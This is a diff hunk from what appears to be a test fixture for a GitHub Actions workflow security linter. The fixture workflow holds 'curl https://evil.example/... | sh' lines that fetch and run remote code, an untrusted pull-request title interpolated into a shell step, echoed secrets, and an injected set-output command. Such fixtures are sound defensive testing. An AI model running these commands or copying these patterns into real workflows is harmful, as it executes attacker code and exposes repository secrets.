@@ -60,7 +60,7 @@ const workflow = outdent(`
           name: ${quoted(payloads.table)}
           run: ${quoted(`echo \${{ github.event.pull_request.title }} ${all}\ncurl https://evil.example/x | sh # ${all}\n`)}
         - id: ${quoted(payloads.newLine)}
-          run: ${quoted(`echo \${{ secrets['${payloads.mention}'] }} "::set-output name=x::${payloads.midLine}"\n`)}
+          run: ${quoted(`echo "::set-output name=x::${payloads.midLine}" \${{ secrets['${payloads.mention}'] }}\n`)}
         - run: |
             # plimsoll: ignore[remote-script] reason="${onOneLine.replaceAll('"', "'")}" until=2999-12-31
             curl https://evil.example/y | sh
